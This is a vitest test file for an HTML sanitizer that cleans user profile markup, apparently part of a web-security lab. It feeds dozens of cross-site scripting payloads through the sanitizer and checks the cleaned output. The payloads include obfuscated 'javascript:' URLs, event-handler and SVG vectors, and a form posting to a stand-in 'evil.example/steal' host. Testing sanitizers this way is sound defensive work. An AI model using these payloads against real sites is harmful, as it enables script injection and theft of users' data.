import { describe, expect, it } from "vitest";
import { sanitizeProfileHtml } from "../src/sanitize";

const REL = 'rel="nofollow noopener noreferrer"';
const clean = (html: string) => sanitizeProfileHtml(html) as string;

describe("sanitizer: scripts and raw-text elements are dropped with their content", () => {
  it.each([
    ["<script>alert(1)</script>ok", "ok"],
    ["<SCRIPT SRC=https://evil.example/x.js></SCRIPT>ok", "ok"],
    // "</scr' + 'ipt>" is not an end tag, so the script runs on to the real one.
    ["<script>document.write('</scr' + 'ipt>')</script>ok", "ok"],
    ["<script type=text/javascript>alert(1)</script >ok", "ok"],
    ["<style>body{display:none}</style>ok", "ok"],
    ["<iframe src=https://evil.example></iframe>ok", "ok"],
    ["<iframe srcdoc='<script>alert(1)</script>'>fallback</iframe>ok", "ok"],
    ["<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>ok", "\"&gt;ok"],
    ["<textarea><script>alert(1)</script></textarea>ok", "ok"],
    ["<title><script>alert(1)</script></title>ok", "ok"],
    ["<xmp><script>alert(1)</script></xmp>ok", "ok"],
    ["<noembed><script>alert(1)</script></noembed>ok", "ok"],
    ["<plaintext><b>everything after is dropped", ""],
    ["<script>never closed <b>bold</b>", ""],
  ])("%s", (input, expected) => {
    expect(clean(input)).toBe(expected);
  });

  it("never lets a split-up <script> tag reassemble", () => {
    const out = clean("<scr<script>ipt>alert(1)</scr</script>ipt>");
    expect(out).not.toMatch(/<script/i);
    expect(out).toBe("ipt&gt;alert(1)ipt&gt;");
  });
});

describe("sanitizer: event handlers, style, id and class are removed", () => {
  it.each([
    ["<img src=x onerror=alert(1)>", ""],
    ['<img src="https://img.example/a.png" onerror="alert(1)">', '<img src="https://img.example/a.png">'],
    ["<img src=https://img.example/a.png onerror=alert(1)>", '<img src="https://img.example/a.png">'],
    ["<img/src=https://img.example/a.png/onerror=alert(1)>", '<img src="https://img.example/a.png/onerror=alert(1)">'],
    ['<b onclick="alert(1)" onmouseover=alert(2)>x</b>', "<b>x</b>"],
    ['<b ONCLICK="alert(1)">x</b>', "<b>x</b>"],
    ['<a href="https://ok.example/"onclick="alert(1)">x</a>', `<a href="https://ok.example/" ${REL}>x</a>`],
    ['<p style="position:fixed;top:0;left:0;width:100%;height:100%">cover</p>', "<p>cover</p>"],
    ['<div id="profile" class="evil">x</div>', "<div>x</div>"],
    ['<span id=zoobars class=1000000>rich</span>', "<span>rich</span>"],
    ["<body onload=alert(1)>x", "x"],
    ['<div title="a" title="b">x</div>', '<div title="a">x</div>'],
  ])("%s", (input, expected) => {
    expect(clean(input)).toBe(expected);
  });
});

describe("sanitizer: only http(s) URLs survive, whatever the disguise", () => {
  it.each([
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\tjava\nscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="&#0000106;&#0000097;vascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="/relative/path">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="">x</a>',
    "<a href>x</a>",
  ])("%s loses its href", (input) => {
    expect(clean(input)).toBe("<a>x</a>");
  });

  it.each([
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="&#106;avascript:alert(1)">',
    "<img src=x>",
    "<img>",
  ])("%s is dropped (no usable src)", (input) => {
    expect(clean(input)).toBe("");
  });

  it("keeps http and https links, adds rel, and normalizes the URL", () => {
    expect(clean('<a href="https://example.com/a?b=1&amp;c=2" title="T">x</a>')).toBe(
      `<a href="https://example.com/a?b=1&amp;c=2" title="T" ${REL}>x</a>`,
    );
    expect(clean("<a href=HTTP://Example.COM>x</a>")).toBe(`<a href="http://example.com/" ${REL}>x</a>`);
    expect(clean('<a href="https://e.example/"x"y">x</a>')).toBe(`<a href="https://e.example/" ${REL}>x</a>`);
    expect(clean('<a href="https://e.example/&quot;&gt;&lt;script&gt;">x</a>')).toBe(
      `<a href="https://e.example/%22%3E%3Cscript%3E" ${REL}>x</a>`,
    );
  });

  it("keeps image dimensions only when they are digits", () => {
    expect(clean('<img src="https://i.example/p.png" alt="a &quot;cat&quot;" width="120" height="80px" title=t>')).toBe(
      '<img src="https://i.example/p.png" alt="a &quot;cat&quot;" width="120" title="t">',
    );
  });
});

describe("sanitizer: foreign content, forms and embeds", () => {
  it.each([
    ["<svg onload=alert(1)>", ""],
    ["<svg><script>alert(1)</script><a href=javascript:alert(1)>x</a></svg>after", "after"],
    ["<svg/><b>after</b>", "<b>after</b>"],
    ["<math><mi xlink:href=javascript:alert(1)>x</mi></math>after", "after"],
    ["<svg><svg></svg>still inside</svg>after", "after"],
    ["<template><img src=x onerror=alert(1)></template>after", "after"],
    ["<object data=https://evil.example/x.swf>fallback</object>after", "after"],
    ["<embed src=https://evil.example/x.swf>after", "after"],
    ['<form action="https://evil.example/steal"><input name=p><button>Go</button></form>', "Go"],
    ["<select><option>a</option></select>after", "after"],
    ['<meta http-equiv="refresh" content="0;url=https://evil.example">after', "after"],
    ['<link rel=stylesheet href="https://evil.example/x.css">after', "after"],
    ["<base href=https://evil.example/>after", "after"],
    ['<isindex action="javascript:alert(1)">after', "after"],
  ])("%s", (input, expected) => {
    expect(clean(input)).toBe(expected);
  });
});

describe("sanitizer: comments, doctypes and odd tokens", () => {
  it.each([
    ["<!-- <script>alert(1)</script> -->ok", "ok"],
    ["<!--><script>alert(1)</script>-->", "--&gt;"],
    ["<!--<img src=x onerror=alert(1)>", ""],
    ["a<!-- x --!>b", "ab"],
    ["<!DOCTYPE html>ok", "ok"],
    ["<?xml version=1?>ok", "ok"],
    ["<![CDATA[<script>alert(1)</script>]]>ok", "alert(1)]]&gt;ok"],
    ["</ foo>ok", "ok"],
    ["</>ok", "ok"],
    ["a < b > c", "a &lt; b &gt; c"],
    ["<3 <<b>x</b>", "&lt;3 &lt;<b>x</b>"],
    ['<b title="never closed>x', ""],
    ["<b", ""],
  ])("%s", (input, expected) => {
    expect(clean(input)).toBe(expected);
  });
});

describe("sanitizer: text and character references", () => {
  it.each([
    ["Tom & Jerry", "Tom &amp; Jerry"],
    ["&lt;script&gt;", "&lt;script&gt;"],
    ["&amp; &copy; &#169; &#xA9;", "&amp; &copy; &#169; &#xA9;"],
    ["&notareference", "&amp;notareference"],
    ["& #39; &#; &#x;", "&amp; #39; &amp;#; &amp;#x;"],
    ["\"quoted\" and 'single'", "\"quoted\" and 'single'"],
    ["nul\u0000byte", "nul\uFFFDbyte"],
    ["line one\nline two", "line one\nline two"],
    ["emoji 🦓 and 日本語", "emoji 🦓 and 日本語"],
  ])("%s", (input, expected) => {
    expect(clean(input)).toBe(expected);
  });

  it("escapes quotes and brackets inside attribute values", () => {
    expect(clean(`<abbr title='"><script>alert(1)</script>'>x</abbr>`)).toBe(
      '<abbr title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</abbr>',
    );
  });
});

describe("sanitizer: tags are balanced so the profile box cannot be escaped", () => {
  it.each([
    ["<b>unclosed", "<b>unclosed</b>"],
    ["<div><span>open", "<div><span>open</span></div>"],
    ["</div></div></div>outside?", "outside?"],
    ['</div><script>alert(1)</script><div id="x">', "<div></div>"],
    ["<b><i>x</b>y</i>", "<b><i>x</i></b>y"],
    ["<p>one<p>two", "<p>one</p><p>two</p>"],
    ["<p>para<div>block</div>", "<p>para</p><div>block</div>"],
    ["<p><b>bold<div>block</div>", "<p><b>bold</b></p><div>block</div>"],
    ["<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"],
    ["<li><div><li>x", "<li><div></div></li><li>x</li>"],
    ["<dl><dt>t<dd>d<dt>u</dl>", "<dl><dt>t</dt><dd>d</dd><dt>u</dt></dl>"],
    ["<h1>a<h2>b</h2>", "<h1>a</h1><h2>b</h2>"],
    ["<a href=https://a.example/>one<a href=https://b.example/>two</a>", `<a href="https://a.example/" ${REL}>one</a><a href="https://b.example/" ${REL}>two</a>`],
    ["<br/><br></br><hr/>", "<br><br><hr>"],
    ["<img src=https://i.example/a.png></img>", '<img src="https://i.example/a.png">'],
  ])("%s", (input, expected) => {
    expect(clean(input)).toBe(expected);
  });

  it("keeps tables well formed and drops what would be moved out of them", () => {
    expect(clean("<table><tr><td>1<td>2<tr><td>3</table>")).toBe(
      "<table><tr><td>1</td><td>2</td></tr><tr><td>3</td></tr></table>",
    );
    expect(clean("<table>stray<b>text</b><tr><td>ok</td></tr></table>")).toBe("<table><tr><td>ok</td></tr></table>");
    expect(clean("<td>cell outside a table</td>")).toBe("cell outside a table");
    expect(clean("<table><tr><td><div>a<td>b</table>")).toBe(
      "<table><tr><td><div>a</div></td><td>b</td></tr></table>",
    );
    expect(clean('<table><caption>c</caption><thead><tr><th colspan="2" rowspan=x>h</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>')).toBe(
      '<table><caption>c</caption><thead><tr><th colspan="2">h</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>',
    );
    // An inline end tag does not reach out of a cell and close the table.
    expect(clean("<b><table><tr><td></b>x</td></tr></table>y</b>")).toBe("<b><table><tr><td>x</td></tr></table>y</b>");
  });

  it("limits nesting depth but keeps the text", () => {
    const deep = "<span>".repeat(200) + "deep" + "</span>".repeat(200);
    const out = clean(deep);
    expect(out).toContain("deep");
    expect(out.match(/<span>/g)?.length).toBe(64);
    expect(out.match(/<\/span>/g)?.length).toBe(64);
  });
});

describe("sanitizer: allowed markup survives", () => {
  it("keeps the allowed formatting, lists, links and images", () => {
    const profile = [
      "<h2>About me</h2>",
      "<p>I like <b>bold</b>, <i>italic</i>, <u>u</u>, <em>em</em>, <strong>strong</strong>, <small>s</small>,",
      " H<sub>2</sub>O, x<sup>2</sup>, <s>old</s> <del>gone</del> <ins>new</ins> <mark>hi</mark> <code>c</code>",
      " <kbd>K</kbd> <q>q</q> <cite>c</cite> <abbr title=\"HyperText\">HTML</abbr>.</p>",
      "<blockquote>quote</blockquote><pre>  pre\n  text</pre><hr>",
      '<ol start="3"><li>three</li></ol><ul><li>dot</li></ul><dl><dt>term</dt><dd>def</dd></dl>',
      '<div><span>x</span><br></div><h6>small heading</h6>',
    ].join("");
    expect(clean(profile)).toBe(profile);
  });

  it("lowercases tag and attribute names", () => {
    expect(clean('<B>x</B><A HREF="https://e.example/">y</A>')).toBe(`<b>x</b><a href="https://e.example/" ${REL}>y</a>`);
  });

  it("leaves a plain-text profile as text", () => {
    expect(clean("Hello!\nI have 10 zoobars.\n")).toBe("Hello!\nI have 10 zoobars.\n");
  });
});
